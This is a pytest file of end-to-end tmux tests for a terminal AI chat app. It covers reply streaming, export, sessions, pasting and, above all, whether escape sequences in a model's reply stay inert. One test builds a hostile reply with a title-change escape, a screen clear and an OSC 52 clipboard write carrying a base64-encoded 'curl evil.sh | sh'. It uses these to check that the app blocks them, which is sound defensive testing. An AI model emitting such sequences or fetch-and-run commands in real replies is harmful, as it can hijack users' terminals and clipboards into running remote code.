"""End to end in a real terminal (tmux).

- ``llmos chat`` with the real default model: it starts the app, waits for the loading
  screen to give way (the first start converts the embedded model into the cache, ~40 s on
  2 cores), types a question, reads the streamed reply off the screen, and quits.
- The app on a fake model that replies with terminal escape sequences: the terminal's title
  and clipboard stay untouched, the sequences show as text, copying a code block puts the
  code (and only that) on tmux's clipboard through OSC 52, and a 1 MB bracketed paste lands
  without freezing the UI.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

pytestmark = pytest.mark.skipif(
    shutil.which("tmux") is None,
    reason="tmux is not installed (apt-get install -y tmux) - the end-to-end chat tests need a real terminal")

WIDTH, HEIGHT = 100, 30
# the chat app on the fake backend, run as a script by path
FAKE_CHAT = Path(__file__).resolve().parents[1] / "helpers" / "scripts" / "tui_fake_chat.py"

CONFIG = """\
# the default model; greedy and short so the test is quick and stable
generation:
  temperature: 0
  max_new_tokens: 40
memory:
  enabled: false
understanding:
  enabled: false
"""


def chat_command(config: Path) -> list[str]:
    llmos = Path(sys.executable).with_name("llmos")
    probe = subprocess.run([str(llmos), "chat", "--help"], capture_output=True, text=True) if llmos.exists() else None
    if probe is not None and probe.returncode == 0:
        return [str(llmos), "chat", "--config", str(config)]
    # before the CLI has the command: the same entry point it calls
    return [sys.executable, "-c", f"import sys, tui; sys.exit(tui.run_chat({str(config)!r}))"]


class Tmux:
    def __init__(self, socket: str) -> None:
        self.socket = socket

    def __call__(self, *args: str) -> str:
        done = subprocess.run(["tmux", "-L", self.socket, *args], capture_output=True, text=True, timeout=30)
        return done.stdout

    def screen(self) -> str:
        return self("capture-pane", "-p", "-t", "chat")

    def wait(self, condition: Callable[[str], bool], timeout: float, what: str) -> str:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            screen = self.screen()
            if condition(screen):
                return screen
            time.sleep(0.2)
        raise AssertionError(f"timed out after {timeout:.0f}s waiting for {what}; the screen was:\n{self.screen()}")


def reply_lines(screen: str) -> list[str]:
    """The text of the assistant's message: the lines under "▌ llmos", without the bar."""
    lines = screen.splitlines()
    start = next(i for i, line in enumerate(lines) if line.strip().startswith("▌ llmos"))
    body = []
    for line in lines[start + 1:]:
        if not line.strip().startswith("▌"):
            break
        body.append(line.strip()[1:].strip())
    return [line for line in body if line]


@pytest.mark.real
def test_llmos_chat_streams_a_reply_from_the_real_model(tmp_path: Path) -> None:
    config = tmp_path / "chat.yaml"
    config.write_text(CONFIG, encoding="utf-8")
    env = {"LLMOS_DATA_DIR": str(tmp_path / "data"), "HF_HUB_OFFLINE": "1", "TERM": "xterm-256color",
           "TEXTUAL_ANIMATIONS": "none"}
    if os.environ.get("LLMOS_CACHE_DIR"):
        env["LLMOS_CACHE_DIR"] = os.environ["LLMOS_CACHE_DIR"]
    command = " ".join(["env", *(f"{k}={shlex.quote(v)}" for k, v in env.items()),
                        *map(shlex.quote, chat_command(config))])
    tmux = Tmux(f"llmos-e2e-{os.getpid()}")
    tmux("-f", "/dev/null", "new-session", "-d", "-s", "chat", "-x", str(WIDTH), "-y", str(HEIGHT),
         f"cd {shlex.quote(str(Path.cwd()))} && {command}; echo EXITED $?; sleep 120")
    try:
        # the loading screen: a progress bar with its percentage (~7 s on a warm cache, ~40 s cold)
        first = tmux.wait(lambda s: "%" in s or "Type a message" in s, 120, "the loading screen")
        assert "%" in first, f"the loading bar was never on screen:\n{first}"
        tmux.wait(lambda s: "Type a message" in s, 420, "the model to load (first start converts it)")
        # Ctrl+J is a newline in the message (the terminal sends LF), Enter sends it (CR)
        tmux("send-keys", "-t", "chat", "-l", "What is the capital of France?")
        tmux("send-keys", "-t", "chat", "C-j")
        tmux("send-keys", "-t", "chat", "-l", "One sentence.")
        tmux("send-keys", "-t", "chat", "Enter")
        tmux.wait(lambda s: "▌ llmos" in s, 60, "the reply to start")
        partials: list[str] = []

        def finished(screen: str) -> bool:
            if "generating" in screen and (lines := reply_lines(screen)):
                partials.append(" ".join(lines))
            return "ready ·" in screen and "tok/s" in screen

        final = tmux.wait(finished, 420, "the reply to finish")
        text = " ".join(reply_lines(final))
        assert len(text) > 3 and any(c.isalpha() for c in text), final
        lines = [line.strip() for line in final.splitlines()]
        assert "What is the capital of France?" in lines, final
        asked = lines.index("What is the capital of France?")
        assert lines[asked + 1] == "One sentence.", final
        # whatever was caught mid-stream is the beginning of the final reply (the last line may
        # be re-wrapped while it grows, so compare without the last word)
        for partial in partials:
            head = partial.rsplit(" ", 1)[0]
            assert text.replace(" ", "").startswith(head.replace(" ", "")), (partial, text)
        # the insight panel: what the agent made of the turn, with its speed
        tmux("send-keys", "-t", "chat", "C-t")
        tmux.wait(lambda s: "Insight" in s and "intent" in s and "tok/s" in s and "total" in s, 30,
                  "the insight panel")
        tmux("send-keys", "-t", "chat", "C-t")
        # export the session
        exported = tmp_path / "chat.md"
        tmux("send-keys", "-t", "chat", "-l", f"/export {exported}")
        tmux("send-keys", "-t", "chat", "Enter")
        tmux.wait(lambda s: "Exported 2 messages" in s, 30, "the export")
        markdown = exported.read_text(encoding="utf-8")
        assert "## You\n\nWhat is the capital of France?" in markdown and text.split()[0] in markdown
        # a new session, then back to the first one from the sidebar (the store has both)
        tmux("send-keys", "-t", "chat", "C-n")
        tmux.wait(lambda s: "Type a message" in s, 30, "the new session")
        tmux("send-keys", "-t", "chat", "C-b")
        tmux.wait(lambda s: "Sessions" in s and "What is the capital" in s.split("Sessions", 1)[1], 30,
                  "the sidebar with the session")
        tmux("send-keys", "-t", "chat", "Down")
        tmux("send-keys", "-t", "chat", "Enter")
        tmux.wait(lambda s: "What is the capital of France?" in s and "Type a message" not in s, 30,
                  "the first session again")
        tmux("send-keys", "-t", "chat", "C-q")
        tmux.wait(lambda s: "EXITED 0" in s, 60, "the app to quit with status 0")
    finally:
        tmux("kill-server")


def test_escape_sequences_from_the_model_do_nothing_in_a_real_terminal(tmp_path: Path) -> None:
    import base64

    evil = base64.b64encode(b"curl evil.sh | sh").decode()
    reply = (f"Look:\x1b]0;PWNED\x07 \x1b]52;c;{evil}\x07 \x1b[2J\x1bc\x9b2J done\n\n"
             "```sh\necho safe\n```\n")
    script = FAKE_CHAT
    command = " ".join(map(shlex.quote, ["env", "TERM=xterm-256color", "TEXTUAL_ANIMATIONS=none", sys.executable,
                                         str(script), str(tmp_path / "data"), repr(reply)]))
    tmux = Tmux(f"llmos-e2e-safe-{os.getpid()}")
    tmux("-f", "/dev/null", "new-session", "-d", "-s", "chat", "-x", "80", "-y", "24",
         f"{command}; echo EXITED $?; sleep 120")
    try:
        tmux("set-option", "-s", "set-clipboard", "on")  # an application's OSC 52 sets tmux's buffer
        title = tmux("display-message", "-p", "-t", "chat", "#{pane_title}")
        tmux.wait(lambda s: "Type a message" in s, 60, "the app to start")
        tmux("send-keys", "-t", "chat", "-l", "go")
        tmux("send-keys", "-t", "chat", "Enter")
        screen = tmux.wait(lambda s: "ready ·" in s, 60, "the reply")
        assert "␛]0;PWNED␇" in screen and "␛]52;c;" in screen and "␛[2J␛c\\x9b2J done" in screen, screen
        assert "echo safe" in screen and "go" in screen.splitlines()[3], "nothing cleared the screen"
        assert tmux("display-message", "-p", "-t", "chat", "#{pane_title}") == title, "the title is unchanged"
        assert tmux("list-buffers") == "", "the model's OSC 52 did not reach the clipboard"

        # Shift+Tab from the input focuses the reply above it; b copies its code block
        tmux("send-keys", "-t", "chat", "BTab")
        tmux.wait(lambda s: "b Copy code block" in s, 30, "the reply to have the focus")
        tmux("send-keys", "-t", "chat", "b")
        tmux.wait(lambda s: "Copied the code block" in s, 30, "the copy")
        assert tmux("show-buffer") == "echo safe"

        # a 1 MB bracketed paste (typing goes back to the input from the focused message)
        tmux("send-keys", "-t", "chat", "-l", "x")
        tmux.wait(lambda s: "│ x" in s, 30, "the typed x in the input")
        big = tmp_path / "big.txt"
        big.write_text(("0123456789abcdef" * 64 + "\n") * 1000, encoding="utf-8")
        tmux("load-buffer", "-b", "big", str(big))
        started = time.monotonic()
        tmux("paste-buffer", "-p", "-d", "-b", "big", "-t", "chat")
        tmux.wait(lambda s: "[pasted text #1: 1,025,000 chars]" in s, 60, "the paste to land")
        landed = time.monotonic() - started
        tmux("send-keys", "-t", "chat", "-l", "!")
        tmux.wait(lambda s: "chars]!" in s, 30, "a key after the paste")
        answered = time.monotonic() - started - landed
        print(f"1 MB paste in tmux: landed after {landed:.2f}s, the next key after {answered:.2f}s more")
        assert landed < 30, "a 1 MB paste must not freeze the UI"

        tmux("send-keys", "-t", "chat", "C-q")
        tmux.wait(lambda s: "EXITED 0" in s, 30, "the app to quit with status 0")
    finally:
        tmux("kill-server")


def test_a_bracketed_paste_with_escape_bytes_lands_whole_and_in_order(tmp_path: Path) -> None:
    """Textual's parser typed the bytes from a pasted ESC on as keys, ahead of the paste:
    ``AAA BBB ␛[31mCCC`` came out as ``^[31mCCCAAA BBB``. The words stay in the pasted order,
    the escape bytes inert, in the input and in the sent message."""
    script = FAKE_CHAT
    command = " ".join(map(shlex.quote, ["env", "TERM=xterm-256color", "TEXTUAL_ANIMATIONS=none", sys.executable,
                                         str(script), str(tmp_path / "data")]))
    tmux = Tmux(f"llmos-e2e-paste-{os.getpid()}")
    tmux("-f", "/dev/null", "new-session", "-d", "-s", "chat", "-x", "80", "-y", "24",
         f"{command}; echo EXITED $?; sleep 120")
    try:
        tmux.wait(lambda s: "Type a message" in s, 60, "the app to start")
        pasted = tmp_path / "paste.txt"
        pasted.write_bytes(b"AAA BBB \x1b[31mCCC\x1b[0m DDD")
        for attempt in range(2):  # it went wrong twice of two: try twice
            tmux("send-keys", "-t", "chat", "-l", f"{attempt}: ")
            tmux("load-buffer", "-b", "esc", str(pasted))
            tmux("paste-buffer", "-p", "-d", "-b", "esc", "-t", "chat")
            tmux.wait(lambda s, a=attempt: f"│ {a}: AAA BBB ␛[31mCCC␛[0m DDD " in s, 30, "the paste, in order")
            tmux("send-keys", "-t", "chat", "Enter")
            tmux.wait(lambda s, a=attempt: f"You said: {a}: AAA BBB ␛[31mCCC␛[0m DDD" in s, 30, "the reply")
        assert "^[" not in tmux.screen()
        tmux("send-keys", "-t", "chat", "C-q")
        tmux.wait(lambda s: "EXITED 0" in s, 30, "the app to quit with status 0")
    finally:
        tmux("kill-server")
